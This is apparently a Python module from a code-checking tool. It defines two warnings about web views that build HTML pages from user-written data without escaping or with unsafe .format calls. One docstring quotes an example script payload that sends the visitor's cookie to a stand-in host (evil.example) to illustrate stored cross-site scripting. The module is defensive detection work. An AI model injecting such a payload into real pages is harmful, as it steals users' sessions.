"""Pages that views put together as text."""

from releasecheck.facts.app import App
from releasecheck.facts.slips import SlipKind
from releasecheck.facts.source import Source
from releasecheck.findings import DoesNotApply, Found, Judgement, by_source, warning

from ..derived.slips import slips
from ..derived.wording import capped, likewise


@by_source
@warning
def html_without_escape(app: App, source: Source) -> Judgement:
    """A view puts a page together as text, with what people write as it is.

    Jinja escapes what it puts into a page, an f-string does not: a comment such as
    `<script>fetch("//evil.example/" + document.cookie)</script>` runs in the browser of everyone who opens
    the page, in the name of who is signed in. Told of an f-string, `%`, `+` or `.format` with a tag, which a
    view answers with: of parts of the request, and of columns of a row that was just read whose names say
    that people write them as they like (`name`, `title`, `comment`). Fine: `escape(…)` around the value, a
    test of it, and an answer of another type.

    Fix: `render_template` with a template, or `escape(row["comment"])` of markupsafe for each value.

    Fault::

        html += f"<td>{row['comment']}</td>"
        return html

    Fine::

        html += f"<td>{escape(row['comment'])}</td>"
        return html
    """
    yield from _told("html-raw", app, source)


@by_source
@warning
def page_formatted_with_data(app: App, source: Source) -> Judgement:
    """A page that has what people wrote in it already is taken for the text of a `.format`.

    A single `{` in a name or a comment is then a KeyError or a ValueError, and the page is a 500 for as long
    as the row is there. Told where a view fills a text by f-strings from the request or from a row, and gives
    `text.format(…)` back.

    Fix: render a template; or fill in all values in one step, each by `.format` of a constant text.

    Fault::

        html += f"<td>{row['comment']}</td>"
        return html.format(count=len(rows))

    Fine::

        return render_template("comments.html", rows=rows)
    """
    yield from _told("html-formatted", app, source)


def _told(kind: SlipKind, app: App, source: Source) -> Judgement:
    """One finding for each file, whose pages are made alike."""
    found = list(slips(kind, app, source))
    if not found:
        yield DoesNotApply("no view puts a page together with what people write")
    for path in dict.fromkeys(one.place.path for one in found):
        alike = [one for one in found if one.place.path == path]
        first, more = alike[0], likewise(len(alike) - 1, "other view")
        if kind == "html-raw":
            message = f"{first.function} puts {first.what} into its page without escaping it{more}"
            shown = [f"{one.what} in {one.function} at {one.place}" for one in alike]
        else:
            message = f"{first.function}: {first.what} fails where {first.detail} has a {{ in it{more}"
            shown = [f"{one.what} with {one.detail} in {one.function} at {one.place}" for one in alike]
        yield Found(message, subject=f"{path}:{first.function}", place=first.place, evidence=capped(shown))
